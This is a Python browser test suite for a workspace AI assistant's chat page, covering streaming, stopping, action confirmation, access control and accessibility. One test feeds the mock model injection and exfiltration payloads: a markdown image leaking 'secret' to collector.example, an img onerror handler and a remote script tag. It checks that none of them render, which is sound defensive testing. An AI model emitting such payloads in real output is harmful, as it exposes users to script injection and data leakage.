"""The people who run a workspace chat with its assistant in a real browser."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from google.cloud.firestore import Client

from emulator.demo import seed
from emulator.suite.suite import Suite
from emulator.web.auth import create_account
from experience.assistant.models.chat import ChatMessage, ChatSession, MessageRole
from experience.assistant.store import message_ref, session_ref
from experience.clock import now_ms
from tests.browser.conftest import a_browser_suite
from tests.support.browser import Browser
from tests.support.builders.workspaces import a_member, a_workspace
from tests.support.vendors.language_model import Called, Said, begin, said
from tests.support.vendors.openai import OpenAiVendor
from tests.support.vendors.server import Fault

PASSWORD = "a-password"
OPERATOR = {
    "workspace": seed.WORKSPACE,
    "email": seed.OPERATOR_EMAIL,
    "password": seed.OPERATOR_PASSWORD,
}


def chats_of(db: Client, workspace: str) -> dict[str, list[dict[str, Any]]]:
    """The stored messages of each chat of a workspace, by its id."""
    sessions = db.collection("workspaces", workspace, "chatSessions")
    return {
        each.id: [
            message.to_dict() or {}
            for message in each.reference.collection("chatMessages").order_by("number").stream()
        ]
        for each in sessions.stream()
    }


class TestAssistantPage:
    def test_an_operator_asks_for_the_campaigns(
        self, browser: Browser, invariants_hold_afterwards: tuple[Suite, Client]
    ) -> None:
        _, db = invariants_hold_afterwards
        seen = browser.play("assistantAnswers", **OPERATOR)
        assert seen["uncaught"] == seen["audit"] == []
        question, reply = seen["heard"]
        user, assistant = chats_of(db, seed.WORKSPACE)[seen["chat"]]
        assert (question["role"], question["text"]) == ("user", "List my campaigns")
        assert (user["userId"], user["content"]) == (seed.OPERATOR, "List my campaigns")
        assert (reply["role"], reply["text"]) == ("assistant", assistant["content"])
        assert seen["said"] == f"Assistant: {assistant['content']}", "announced as a whole"
        assert seen["title"] == "List my campaigns"


class Workspace:
    """A workspace with members who can sign in."""

    def __init__(self, suite: Suite, db: Client) -> None:
        self.suite = suite
        self.db = db
        self.id = a_workspace(db)

    def member(self, role: str = "owner") -> dict[str, Any]:
        """How a new member signs in to it."""
        uid = a_member(self.db, self.id, role)
        return {"workspace": self.id, "uid": uid, **self.account(uid)}

    def account(self, uid: str) -> dict[str, str]:
        """An account with this uid."""
        assert self.suite.auth
        email = f"{uid.lower()}@example.com"
        create_account(self.suite.auth.address, self.suite.project, uid, email, PASSWORD)
        return {"email": email, "password": PASSWORD}

    def add_chats(self, uid: str, *, chats: int, messages: int) -> None:
        """Chats of a member, and messages in the last one of them."""
        batch = self.db.batch()
        for number in range(1, chats + 1):
            at = now_ms() + number
            mine = {"tenant_id": self.id, "user_id": uid, "created_at": at, "updated_at": at}
            chat = ChatSession(
                id=f"chat-{number}",
                title=f"Chat {number}",
                message_count=messages if number == chats else 0,
                last_message_at=at,
                **mine,
            )
            batch.set(session_ref(self.db, self.id, chat.id), chat.dump())
        for each in range(1, messages + 1):
            message = ChatMessage(
                id=str(each),
                number=each,
                chat_session_id=chat.id,
                role=MessageRole.USER if each % 2 else MessageRole.ASSISTANT,
                content=f"Message {each}",
                **mine,
            )
            batch.set(message_ref(self.db, self.id, chat.id, each), message.dump())
        batch.commit()

    def messages(self, chat: str) -> list[dict[str, Any]]:
        return chats_of(self.db, self.id)[chat]

    def campaigns(self) -> list[str]:
        campaigns = self.db.collection("workspaces", self.id, "campaigns").stream()
        return sorted((each.to_dict() or {})["name"] for each in campaigns)


def an_endless_story(vendor: OpenAiVendor) -> Fault:
    """A stream with a word now and then, and no end."""
    first = begin(vendor, said("Once "))
    chunk = {"choices": [{"index": 0, "delta": {"content": "more "}, "finish_reason": None}]}
    return Fault(floods=(first, f"data: {json.dumps(chunk)}\n\n".encode()))


@pytest.fixture(scope="module")
def vendor() -> Iterator[OpenAiVendor]:
    vendor = OpenAiVendor()
    vendor.needs_key = False
    yield vendor
    vendor.close()


@pytest.fixture(scope="module")
def opened(
    vendor: OpenAiVendor, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Suite, Client, Browser]]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LANGUAGE_MODEL", "openai")
        patch.setenv("OPENAI_API_URL", vendor.address)
        folder = tmp_path_factory.mktemp("assistant")
        with a_browser_suite("demo-assistant", folder) as opened:
            yield opened


@pytest.mark.exhaustive
class TestAssistantWithModel:
    """With a language model that says what the test has it say."""

    @pytest.fixture
    def browser(self, opened: tuple[Suite, Client, Browser]) -> Browser:
        return opened[2]

    @pytest.fixture
    def workspace(self, opened: tuple[Suite, Client, Browser]) -> Workspace:
        suite, db, _ = opened
        return Workspace(suite, db)

    def test_a_reload_and_a_second_tab_follow_a_message_until_it_is_stopped(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        vendor.next("stream", an_endless_story(vendor))
        seen = browser.play("assistantStreams", **workspace.member("viewer"))
        assert seen["uncaught"] == []
        assert seen["announced"] == "", "no token is announced"
        assert seen["streamed"][1]["text"].startswith("Once more more")
        assert seen["busy"] == 0, "nothing is sent while it writes"
        assert seen["stoppedHere"] == seen["stoppedThere"]
        user, assistant = workspace.messages(seen["chat"])
        assert (user["content"], assistant["status"]) == ("Tell me a long story", "stopped")
        assert seen["stoppedHere"][1]["text"] == assistant["content"].strip()
        assert seen["said"].startswith("Assistant: Once more")
        assert seen["said"].endswith("Stopped.")

    def test_a_message_can_be_stopped_before_it_says_anything(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        vendor.next("stream", an_endless_story(vendor))
        seen = browser.play("assistantStopsEarly", **workspace.member("viewer"))
        assert seen["uncaught"] == []
        assert workspace.messages(seen["chat"])[1]["status"] == "stopped"

    def test_a_proposal_runs_by_its_button_alone_and_once(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        for name in ("Winter", "Spring"):
            vendor.script.append(Said(calls=(Called("create_campaign", {"name": name}),)))
        seen = browser.play(
            "assistantConfirms",
            **workspace.member(),
            first="Create a campaign called Winter",
            second="Create a campaign called Spring",
        )
        assert seen["uncaught"] == seen["audit"] == []
        assert all(shown in seen["card"] for shown in ("Winter", "Name", "Valid until"))
        assert seen["before"] == 0, "nothing ran by itself"
        assert workspace.campaigns() == ["Spring"], "pressed twice, done once"
        assert seen["focused"] == seen["dismissed"] == "outcome"
        proposals = [each["proposal"] for each in workspace.messages(seen["chat"])[1::2]]
        assert [each["status"] for each in proposals] == ["open", "confirmed"]
        assert proposals[1]["result"] in seen["result"]

    def test_nothing_that_a_model_writes_loads_or_leads_anywhere(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        host = "collector.example"
        text = (
            f"**Two** campaigns:\n\n- one\n- two\n\n```\ncode\n```\n"
            f"![x](https://{host}/?q=secret) [click](https://{host}) "
            f'<img src="https://{host}/x.png" onerror="alert(1)"> '
            f"<script src=https://{host}/x.js></script>"
        )
        vendor.script.append(said(text))
        seen = browser.play("assistantRenders", **workspace.member(), host=host)
        assert seen["elements"] == seen["requested"] == seen["uncaught"] == []
        assert f"![x](https://{host}/?q=secret) [click](https://{host})" in seen["text"]
        assert f'<img src="https://{host}/x.png" onerror="alert(1)">' in seen["text"]
        assert (seen["lists"], seen["code"]) == (2, ["code"])

    def test_a_chat_is_its_users_alone(self, browser: Browser, workspace: Workspace) -> None:
        first = browser.play("assistantAnswers", **workspace.member())
        member = workspace.member("admin")
        stranger = Workspace(workspace.suite, workspace.db).member()
        assert first["uncaught"] == []
        seen = browser.play("assistantDenies", **member, chat=first["chat"], stranger=stranger)
        assert seen["wrong"] == "The e-mail address or the password is wrong."
        assert seen["deniedChat"] == {"reason": "chat_session_not_found", "entries": 0}
        assert seen["stranger"]["reason"] == "not_a_member"
        assert stranger["email"] in seen["stranger"]["text"]
        assert seen["stranger"]["audit"] == seen["uncaught"] == []
        assert seen["address"] == f"?workspace={stranger['workspace']}"

    def test_a_guest_is_told_that_it_is_not_for_guests(
        self, browser: Browser, workspace: Workspace
    ) -> None:
        seen = browser.play("assistantMeetsGuest", workspace=workspace.id)
        assert seen["uncaught"] == []
        assert seen["before"] == 0, "a guest's visit signs nobody in here"
        assert "You are here as a guest" in seen["words"]
        assert seen["isSame"], "the guest's visit goes on"

    def test_long_lists_and_long_chats_come_in_pages(
        self, browser: Browser, workspace: Workspace
    ) -> None:
        member = workspace.member()
        workspace.add_chats(member["uid"], chats=52, messages=54)
        seen = browser.play("assistantPages", **member, chats=52, messages=54)
        assert seen["uncaught"] == []
        assert seen["chats"] == [50, 52]
        assert seen["titles"] == [f"Chat {number}" for number in range(52, 0, -1)]
        assert seen["messages"] == [50, 54]
        assert (seen["first"], seen["buttons"]) == ("Message 1", 0)

    def test_what_fails_has_words_and_is_stored_once(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        vendor.script.append(said("Yes."))
        vendor.script.append(said("I will not", ending="safety"))
        seen = browser.play("assistantFails", **workspace.member())
        assert seen["uncaught"] == seen["audit"] == []
        assert "No connection" in seen["offline"]
        assert seen["unsent"] == ["Are you there?"], "a reload keeps it"
        assert seen["answered"] == ["Are you there?", "Yes."]
        messages = workspace.messages(seen["chat"])
        said_by = [(each["role"], each["status"]) for each in messages]
        ends = ("user", "complete"), ("assistant", "complete"), ("assistant", "failed")
        assert said_by == [ends[0], ends[1], ends[0], ends[2]]
        assert messages[3]["error"]["code"] == "SAFETY_FILTERED"
        assert "refused to answer" in seen["failure"]
        assert "budget of 1 tokens" in seen["budget"]
        assert "tomorrow at" in seen["budget"] or " at " in seen["budget"]
        assert seen["kept"] == "One more"

    def test_everything_works_without_a_mouse(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        vendor.script.append(said("None."))
        seen = browser.play("assistantByKeyboard", **workspace.member())
        assert seen["uncaught"] == seen["audit"] == []
        assert seen["heard"][0]["text"] == "List my\ncampaigns"
        assert seen["focus"] == ["email", "message", "title", "keep"]
        [messages] = chats_of(workspace.db, workspace.id).values()
        assert messages == []

    def test_it_fits_phones_zoom_and_dark_rooms(
        self, browser: Browser, workspace: Workspace, vendor: OpenAiVendor
    ) -> None:
        name = "A name that is long " * 4
        call = Said(calls=(Called("create_campaign", {"name": name.strip()}),))
        vendor.script.extend([call] * 4)
        seen = browser.play("assistantOnScreens", **workspace.member(), ask="Create one")
        assert seen["uncaught"] == []
        screens = seen["seen"]
        assert {name: (each["wider"], each["audit"]) for name, each in screens.items()} == {
            name: (0, []) for name in ("phone", "zoomed", "dark", "still")
        }
        covered = {name for name, each in screens.items() if each["covered"]}
        assert covered == {"phone", "zoomed"}, "where the list of chats covers the chat"
        assert screens["phone"]["field"] > 200

    def test_a_long_text_is_counted_and_too_long_a_one_is_not_sent(
        self, browser: Browser, workspace: Workspace
    ) -> None:
        seen = browser.play("assistantCounts", **workspace.member())
        assert seen["uncaught"] == seen["audit"] == []
        none, some, over = seen["counters"]
        assert none is None
        assert some.startswith("7,000 of 8,000")
        assert "Shorten it" in over
        assert (seen["entries"], seen["invalid"]) == (0, "true")
